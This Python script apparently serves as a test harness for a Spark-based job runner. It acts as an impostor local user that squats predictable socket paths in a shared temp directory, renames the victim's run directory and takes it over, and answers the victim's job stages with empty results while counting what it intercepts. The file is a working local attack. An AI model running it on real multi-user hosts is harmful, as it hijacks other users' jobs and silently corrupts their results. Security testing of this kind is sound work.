"""Another local account trying to take a topology's instance hosts: run as ``nobody`` (setpriv) with
the system's Python, standard library only.

Usage: impostor.py SHARED_TMP VICTIM_UID STOP_FILE LOG_JSON

It does what the attack on the predictable hosts' path did: before the topology runs it makes
the hosts' directories in the shared temp directory (this layout's ``trident-spark-<uid>/hosts``
and the earlier ``trident-spark-hosts-<uid>``), world-writable and its own, then until
STOP_FILE appears it

* listens at ``launcher-<pid>.sock`` for every Spark Python daemon it sees in /proc (the pool a
  task's launcher is named after), and at the socket beside any lock file the victim makes;
* answers a launcher request by swapping the run's directory for its own and listening at the
  host's path the request names, and a stage by "no rows" (the counts come out short).

Everything it receives is counted; LOG_JSON gets ``{"listening": [...], "connections": n,
"bytes": n, "stages": n}``.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import struct
import sys
import threading
import time
from pathlib import Path
from typing import Any

FRAME = struct.Struct(">cQ")
shared, victim_uid = Path(sys.argv[1]), int(sys.argv[2])
stop_file, log_file = Path(sys.argv[3]), Path(sys.argv[4])
counts = {"connections": 0, "bytes": 0, "stages": 0}
listening: dict[str, socket.socket] = {}
lock = threading.Lock()


def claim(path: Path) -> Path:
    path.mkdir(exist_ok=True)
    path.chmod(0o777)
    return path


claimed = [claim(claim(shared / f"trident-spark-{victim_uid}") / "hosts"),
           claim(shared / f"trident-spark-hosts-{victim_uid}")]


def read_exactly(stream: Any, size: int) -> bytes:
    data = bytes(stream.read(size))
    with lock:
        counts["bytes"] += len(data)
    if len(data) < size:
        raise EOFError
    return data


def receive(stream: Any) -> tuple[bytes, bytes]:
    tag, size = FRAME.unpack(read_exactly(stream, FRAME.size))
    return tag, read_exactly(stream, size)


def send(stream: Any, tag: bytes, body: bytes) -> None:
    stream.write(FRAME.pack(tag, len(body)) + body)
    stream.flush()


def serve(conn: socket.socket) -> None:
    with conn:
        conn.settimeout(30)
        stream = conn.makefile("rwb")
        try:
            tag, body = receive(stream)
            if tag == b"H" and body.startswith(b"\x80") and b"sys_path" in body:  # a launcher request
                host_path = Path(pickle.loads(body)["path"])
                run = host_path.parent
                if run.exists() and run.stat().st_uid != os.getuid():  # the victim's: ours goes in its place
                    run.rename(run.with_name(run.name + f".taken-{time.monotonic_ns()}"))
                claim(run)
                listen(host_path)
                send(stream, b"E", b"")
                return
            if tag == b"H":  # a stage: read its batches, answer "no rows"
                with lock:
                    counts["stages"] += 1
                while receive(stream)[0] != b"D":
                    pass
                send(stream, b"E", pickle.dumps({}))
        except (EOFError, OSError, pickle.PickleError, KeyError, ValueError):
            pass


def accept(listener: socket.socket) -> None:
    while True:
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        with lock:
            counts["connections"] += 1
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


def listen(path: Path) -> None:
    if str(path) in listening:
        return
    try:
        path.unlink()
    except FileNotFoundError:
        pass
    except OSError:
        return
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        listener.bind(str(path))
    except OSError:
        listener.close()
        return
    os.chmod(path, 0o777)
    listener.listen(16)
    listening[str(path)] = listener
    threading.Thread(target=accept, args=(listener,), daemon=True).start()


def spark_daemons() -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if b"pyspark.daemon" in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


Path(str(log_file) + ".ready").write_text("ready")
while not stop_file.exists():
    for directory in claimed:
        for pid in spark_daemons():
            listen(directory / f"launcher-{pid}.sock")
        for lock_file in [*directory.glob("*.lock"), *directory.glob("*/*.lock")]:
            listen(lock_file.with_suffix(".sock"))
    time.sleep(0.005)
with lock:
    log_file.write_text(json.dumps({"listening": sorted(listening), **counts}))
